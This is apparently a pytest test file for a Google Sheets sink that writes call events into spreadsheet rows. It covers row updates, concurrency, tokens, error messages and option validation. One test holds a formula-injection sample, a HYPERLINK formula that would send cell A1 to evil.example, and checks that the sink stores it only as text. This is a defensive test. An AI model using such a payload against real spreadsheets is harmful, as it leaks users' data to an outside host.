import asyncio
import json
from collections.abc import AsyncIterator, Iterable
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from aftercall.call import Analysis, Call
from aftercall.client import make_client
from aftercall.errors import SinkError
from aftercall.event import CallEvent
from aftercall.sinks.base import LocalMemory
from aftercall.sinks.google_sheets import GoogleSheets
from aftercall.sinks.google_sheets_cells import COLUMNS, letter
from aftercall.testing import HttpSinkContract
from aftercall.testing.destination import Answer, Destination
from tests.samples import a_call, a_delivery, an_event
from tests.sinks.fake_sheets import PRIVATE_KEY, SPREADSHEET, FakeSheets, Formula, key_file

IDS = ["event.id", "event.source", "call.id"]


class Spreadsheet:
    """The fake, and sinks that lead there and share their notes."""

    def __init__(self, destination: Destination, http: httpx.AsyncClient) -> None:
        self.fake = FakeSheets("Sheet1", "Ada's calls")
        self.destination, self._http, self._memory = destination, http, LocalMemory()
        destination.answers = self.fake

    async def sink(self, **options: Any) -> GoogleSheets:
        sink = self.closed(**options)
        await sink.open()
        return sink

    def closed(self, **options: Any) -> GoogleSheets:
        given = {"spreadsheet": SPREADSHEET, "base_url": self.destination.url}
        if "credentials_file" not in options:
            given["credentials"] = key_file(self.destination.url)
        sink = GoogleSheets("rows", msgspec.convert(given | options, GoogleSheets.Config), self._http)
        sink.memory = self._memory
        return sink

    async def cell(self, column: str, call: Call) -> Any:
        sink = await self.sink(columns=[*IDS, column])
        await sink.deliver(a_delivery(an_event(call=call)))
        return self.fake.rows[-1][3]


@pytest.fixture
async def spreadsheet() -> AsyncIterator[Spreadsheet]:
    destination = Destination()
    await destination.start()
    async with make_client(guarded=False) as http:
        yield Spreadsheet(destination, http)
    await destination.stop()


async def refused(sink: GoogleSheets, event: CallEvent | None = None) -> SinkError:
    with pytest.raises(SinkError) as caught:
        await sink.deliver(a_delivery(event))
    return caught.value


# Rows


async def test_a_call_is_a_row_below_the_titles(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()

    receipt = await sink.deliver(a_delivery(an_event(type="call.settled")))

    assert receipt == "'Sheet1'!A2:Q2"
    titles, row = spreadsheet.fake.tabs["Sheet1"]
    assert tuple(titles) == COLUMNS
    assert dict(zip(titles, row, strict=True)) == {
        "event.id": "evt_lantern",
        "event.time": "2026-11-20T12:05:00.000Z",
        "event.type": "call.settled",
        "event.source": "/retell/acme",
        "call.id": "call_7f3",
        "call.agent.name": "Front desk",
        "call.direction": "inbound",
        "call.from": "+15550100123",
        "call.to": "+15550100177",
        "call.started_at": "",
        "call.duration_ms": 185_400,
        "call.end.reason": "user_hangup",
        "call.analysis.successful": True,
        "call.analysis.sentiment": "positive",
        "call.analysis.summary": "Mirela Okafor moved her fitting to Tuesday.",
        "call.cost.total": 0.214,
        "call.recording.url": "https://media.example.com/7f3.wav",
    }


async def test_titles_that_people_gave_are_left_alone(spreadsheet: Spreadsheet) -> None:
    spreadsheet.fake.tabs["Sheet1"] = [["Number", "When"]]

    await (await spreadsheet.sink()).deliver(a_delivery())

    assert spreadsheet.fake.tabs["Sheet1"][0] == ["Number", "When"]
    assert len(spreadsheet.fake.rows) == 1


async def test_the_tab_is_the_one_that_was_named(spreadsheet: Spreadsheet) -> None:
    receipt = await (await spreadsheet.sink(sheet="Ada's calls")).deliver(a_delivery())

    assert receipt == "'Ada's calls'!A2:Q2"
    assert spreadsheet.fake.tabs["Sheet1"] == []


async def test_what_a_caller_says_is_no_formula(spreadsheet: Spreadsheet) -> None:
    said = '=HYPERLINK("https://evil.example/?"&A1,"refund")'

    assert await spreadsheet.cell("call.analysis.summary", a_call(analysis=Analysis(summary=said))) == said
    assert not any(isinstance(cell, Formula) for row in spreadsheet.fake.rows for cell in row)


@pytest.mark.parametrize(
    ("column", "written"),
    [
        ("call.transcript.role", "agent\nuser\ntool\nagent"),
        ("call.transcript.tool", ""),
        (
            "call.analysis",
            '{"summary":"of tea","sentiment":null,"successful":null,"voicemail":null,"custom":{"a":[1]}}',
        ),
        ("call.analysis.custom.a", "[1]"),
        ("call.analysis.custom.b.c", ""),
        ("call.analysis.voicemail", ""),
        ("event.data.sequence", 2),
        ("event.data.complete", True),
        ("tags.region", ""),
    ],
)
async def test_a_cell_holds_text_a_number_or_json(spreadsheet: Spreadsheet, column: str, written: Any) -> None:
    analysis = Analysis(summary="of tea", custom={"a": [1]})

    assert await spreadsheet.cell(column, a_call(analysis=analysis)) == written


async def test_a_cell_is_no_longer_than_sheets_allows(spreadsheet: Spreadsheet) -> None:
    cell = await spreadsheet.cell("call.analysis.summary", a_call(analysis=Analysis(summary="🧵" * 40_000)))

    assert cell == "🧵" * 24_999 + "…"


@pytest.mark.parametrize(("number", "name"), [(0, "A"), (25, "Z"), (26, "AA"), (51, "AZ"), (52, "BA"), (702, "AAA")])
def test_columns_have_their_letters(number: int, name: str) -> None:
    assert letter(number) == name


# Several events of a call


async def test_later_events_of_a_call_update_its_row(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    await sink.deliver(a_delivery(an_event(sequence=1, call=a_call(error="line noise"))))
    await sink.deliver(a_delivery(an_event(call=a_call(id="call_other"))))

    receipt = await sink.deliver(a_delivery(an_event(id="evt_later", sequence=2, call=a_call(analysis=None))))

    assert receipt == "'Sheet1'!A2:Q2"
    assert [(row[0], row[4]) for row in spreadsheet.fake.rows] == [
        ("evt_later", "call_7f3"),
        ("evt_lantern", "call_other"),
    ]
    assert spreadsheet.fake.rows[0][COLUMNS.index("call.analysis.summary")] == ""


async def test_an_older_event_does_not_overwrite_a_later_one(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    await sink.deliver(a_delivery(an_event(id="evt_later", sequence=3)))

    await sink.deliver(a_delivery(an_event(sequence=2)))

    assert [row[0] for row in spreadsheet.fake.rows] == ["evt_later"]


async def test_the_row_is_found_again_where_people_moved_it(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    await sink.deliver(a_delivery())
    tab = spreadsheet.fake.tabs["Sheet1"]
    tab[1] += ["called back: Ada"]
    tab[1:1] = [["", "", "Tuesday"], []]

    assert await sink.deliver(a_delivery(an_event(id="evt_later", sequence=3))) == "'Sheet1'!A4:Q4"

    assert (tab[3][0], tab[3][-1]) == ("evt_later", "called back: Ada")
    assert len(spreadsheet.fake.rows) == 2


async def test_two_events_of_a_call_at_once_do_not_become_two_rows(spreadsheet: Spreadsheet) -> None:
    one, other = await spreadsheet.sink(), await spreadsheet.sink()  # of two workers
    events = [an_event(id=f"evt_{sequence}", sequence=sequence) for sequence in (1, 2)]

    tried = await asyncio.gather(
        *(sink.deliver(a_delivery(event)) for sink, event in zip((one, other), events, strict=True)),
        return_exceptions=True,
    )

    [error] = [outcome for outcome in tried if isinstance(outcome, SinkError)]
    assert (error.permanent, error.retry_after) == (False, 1.0)
    assert await other.deliver(a_delivery(events[1])) == "'Sheet1'!A2:Q2"
    assert [row[0] for row in spreadsheet.fake.rows] == ["evt_2"]


async def test_an_attempt_whose_worker_was_killed_does_not_stand_in_its_own_way(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    await sink.memory.add("/retell/acme call_7f3 is being written", "evt_lantern")  # nobody was left to delete it

    assert (await refused(sink, an_event(id="evt_other"))).retry_after == 1.0
    assert await sink.deliver(a_delivery(attempt=2)) == "'Sheet1'!A2:Q2"
    await sink.deliver(a_delivery(an_event(id="evt_other")))


async def test_each_event_has_its_row_where_that_is_wanted(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink(row="event")
    for id_ in ("evt_1", "evt_2", "evt_1"):
        await sink.deliver(a_delivery(an_event(id=id_)))

    assert [(row[0], row[4]) for row in spreadsheet.fake.rows] == [("evt_1", "call_7f3"), ("evt_2", "call_7f3")]


async def test_the_row_of_an_event_that_comes_again_is_left_as_people_changed_it(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink(row="event")
    await sink.deliver(a_delivery())
    spreadsheet.fake.rows[0][5] = "Reception"

    assert await sink.deliver(a_delivery(attempt=2)) == "'Sheet1'!A2:Q2"

    assert [row[5] for row in spreadsheet.fake.rows] == ["Reception"]


@pytest.mark.parametrize("row", ["call", "event"])
async def test_a_row_whose_answer_was_lost_is_found(spreadsheet: Spreadsheet, row: str) -> None:
    sink = await spreadsheet.sink(row=row)
    spreadsheet.fake.afterwards = lambda sent: Answer(502) if ":append" in sent.path else None
    assert not (await refused(sink)).permanent

    spreadsheet.fake.afterwards = lambda _: None
    assert await sink.deliver(a_delivery(attempt=2)) == "'Sheet1'!A2:Q2"
    assert len(spreadsheet.fake.rows) == 1


async def test_a_call_of_the_same_id_in_another_account_has_its_own_row(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    for account in ("acme", "clinic"):
        await sink.deliver(a_delivery(an_event(id=f"evt_{account}", call=a_call(account=account))))

    assert [row[3] for row in spreadsheet.fake.rows] == ["/retell/acme", "/retell/clinic"]


async def test_a_long_tab_is_read_to_its_end(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink(columns=IDS)
    spreadsheet.fake.tabs["Sheet1"] += [[f"evt_{n}", "/retell/acme", f"call_of_another_{n}"] for n in range(5_000)]
    await sink.deliver(a_delivery())

    assert await sink.deliver(a_delivery(an_event(id="evt_later", sequence=3))) == "'Sheet1'!A5002:C5002"


# Tokens


async def test_many_deliveries_ask_for_one_token(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    deliveries = [a_delivery(an_event(call=a_call(id=f"call_{n}"))) for n in range(8)]
    spreadsheet.fake.tokens.clear()
    await asyncio.gather(*map(sink.deliver, deliveries), return_exceptions=True)  # each is told that its token is bad

    await asyncio.gather(*map(sink.deliver, deliveries))

    assert (len(spreadsheet.fake.rows), spreadsheet.fake.given) == (8, 2)


async def test_a_token_is_replaced_before_it_ends(spreadsheet: Spreadsheet) -> None:
    spreadsheet.fake.good_for_s = 300
    sink = await spreadsheet.sink()  # asks twice: for the titles, and to write them
    before = spreadsheet.fake.given

    await sink.deliver(a_delivery())

    assert (before, spreadsheet.fake.given) == (2, 4)


async def test_a_token_that_was_revoked_is_replaced_by_the_next_attempt(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    spreadsheet.fake.tokens.clear()

    error = await refused(sink)
    await sink.deliver(a_delivery(attempt=2))

    assert (error.permanent, str(error)) == (False, "HTTP 401: the token is not good any more")
    assert spreadsheet.fake.given == 2


@pytest.mark.parametrize("changes", [{"client_email": "other@example.com"}, {"private_key_id": "key-61"}])
async def test_a_key_that_google_does_not_know_is_refused_for_good(
    spreadsheet: Spreadsheet, changes: dict[str, str]
) -> None:
    with pytest.raises(SinkError, match="HTTP 400: Google gives no token") as caught:
        await spreadsheet.sink(credentials=key_file(spreadsheet.destination.url, **changes))

    assert caught.value.permanent


@pytest.mark.parametrize("body", [b"<html>", b"{}", b"[]", b"\xff"])
async def test_a_token_server_that_gives_none_is_asked_again(spreadsheet: Spreadsheet, body: bytes) -> None:
    spreadsheet.fake.answer_instead = lambda sent: Answer(200, body) if sent.path == "/token" else None

    with pytest.raises(SinkError, match="not that of a token server") as caught:
        await spreadsheet.sink()

    assert not caught.value.permanent


# Refusals


async def test_a_spreadsheet_that_is_not_shared_is_refused_with_the_remedy(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    spreadsheet.fake.shared = False

    error = await refused(sink)

    assert error.permanent
    assert "HTTP 403: share the spreadsheet with the service account, as an editor" in str(error)


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"sheet": "Calls"}, "HTTP 400: is there a tab of that name"),
        ({"spreadsheet": "another"}, "HTTP 404: is that the spreadsheet's id?"),
    ],
)
async def test_what_is_not_there_is_refused_with_the_remedy(
    spreadsheet: Spreadsheet, options: dict[str, str], said: str
) -> None:
    with pytest.raises(SinkError) as caught:
        await spreadsheet.sink(**options)

    assert caught.value.permanent
    assert said in str(caught.value)


async def test_the_quota_is_full_again_after_a_minute(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    exhausted = {"error": {"code": 429, "message": "Quota exceeded", "status": "RESOURCE_EXHAUSTED"}}
    spreadsheet.fake.answer_instead = lambda sent: Answer(429, exhausted) if ":append" in sent.path else None

    error = await refused(sink)

    assert (error.permanent, error.retry_after) == (False, 60.0)
    spreadsheet.fake.answer_instead = lambda _: None
    await sink.deliver(a_delivery(attempt=2))
    assert len(spreadsheet.fake.rows) == 1


@pytest.mark.parametrize("where", [":batchGet", ":append"])
@pytest.mark.parametrize("body", [b"<html>welcome</html>", b"{}", b"[1]", b"\xff"])
async def test_an_answer_that_is_not_googles_is_no_delivery(spreadsheet: Spreadsheet, where: str, body: bytes) -> None:
    sink = await spreadsheet.sink()
    spreadsheet.fake.answer_instead = lambda sent: Answer(200, body) if where in sent.path else None

    assert not (await refused(sink)).permanent
    assert spreadsheet.fake.rows == []


# erase


@pytest.mark.parametrize("row", ["call", "event"])
async def test_an_erased_calls_rows_are_emptied_and_the_next_call_comes_below(
    spreadsheet: Spreadsheet, row: str
) -> None:
    sink = await spreadsheet.sink(row=row)
    calls = [a_call(id="call_1"), a_call(), a_call(account="clinic"), a_call()]
    for number, call in enumerate(calls):
        await sink.deliver(a_delivery(an_event(id=f"evt_{number}", sequence=3, call=call)))

    await sink.erase(a_call())
    await sink.deliver(a_delivery(an_event(id="evt_after", call=a_call(id="call_2"))))

    assert [(r[0], r[3]) for r in spreadsheet.fake.rows] == [
        ("evt_0", "/retell/acme"),
        ("evt_2", "/retell/clinic"),
        ("evt_after", "/retell/acme"),
    ]
    await sink.deliver(a_delivery(an_event(sequence=2)))
    assert spreadsheet.fake.rows[-1][0] == "evt_lantern"


async def test_calls_erased_at_once_do_not_take_others_with_them(spreadsheet: Spreadsheet) -> None:
    sink = await spreadsheet.sink()
    for number in range(9):
        await sink.deliver(a_delivery(an_event(call=a_call(id=f"call_{number}"))))

    await asyncio.gather(*(sink.erase(a_call(id=f"call_{number}")) for number in range(0, 9, 2)))

    assert [row[4] for row in spreadsheet.fake.rows] == ["call_1", "call_3", "call_5", "call_7"]


# The options


async def test_the_key_may_be_in_a_file(spreadsheet: Spreadsheet, tmp_path: Path) -> None:
    file = tmp_path / "key.json"
    sink = spreadsheet.closed(credentials_file=str(file))
    for written, permanent in ((None, False), (b"\xff", True), (b"{}", True)):
        if written is not None:
            file.write_bytes(written)
        with pytest.raises(SinkError, match="credentials_file") as caught:
            await sink.open()
        assert caught.value.permanent == permanent

    file.write_text(key_file(spreadsheet.destination.url))
    await sink.open()
    await sink.deliver(a_delivery())

    assert len(spreadsheet.fake.rows) == 1


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"credentials": None}, "give either the key itself or credentials_file"),
        ({"credentials_file": "/etc/key.json"}, "give either the key itself or credentials_file"),
        ({"credentials": "sesame"}, "credentials: expected the JSON of a service account's key"),
        ({"credentials": key_file("", private_key="sesame")}, "credentials: expected the JSON of a service"),
        ({"credentials": key_file("", token_uri="file:///sesame")}, "credentials: expected a token_uri that is a web"),
        ({"columns": [*IDS, "call.sumary"]}, "columns: call has no sumary"),
        ({"columns": [*IDS, "weather"]}, "columns: there is no weather"),
        ({"columns": ["event.id", "call.id"]}, "columns: rows are found again by event.source; add that"),
        ({"columns": IDS[1:], "row": "event"}, "columns: rows are found again by event.id; add that"),
        ({"columns": ["call.from", *IDS]}, "columns: the first one must never be empty"),
        ({"columns": [*IDS, "call.to", "call.to"]}, "columns: one of them is there twice"),
        ({"columns": []}, "columns"),
        ({"spreadsheet": "https://docs.google.com/spreadsheets/d/1/edit"}, "spreadsheet"),
        ({"base_url": "ftp://example.com"}, "base_url: expected http:// or https:// and a host"),
    ],
)
def test_options_that_make_no_sense_are_refused_without_showing_the_key(options: dict[str, Any], said: str) -> None:
    given = {"spreadsheet": SPREADSHEET, "credentials": key_file("https://example.com"), **options}

    with pytest.raises(msgspec.ValidationError, match=said) as caught:
        msgspec.convert(given, GoogleSheets.Config)

    assert "sesame" not in str(caught.value)
    assert PRIVATE_KEY.splitlines()[3] not in str(caught.value)


class TestContract(HttpSinkContract):
    sink = GoogleSheets

    async def start(self) -> None:
        await super().start()
        self.sheets = FakeSheets()
        self.destination.answers = self.sheets

    async def options(self) -> dict[str, Any]:
        url = self.destination.url
        return {"spreadsheet": SPREADSHEET, "credentials": key_file(url), "base_url": url}

    async def received(self) -> Iterable[str]:
        return [json.dumps(row) for row in self.sheets.rows]
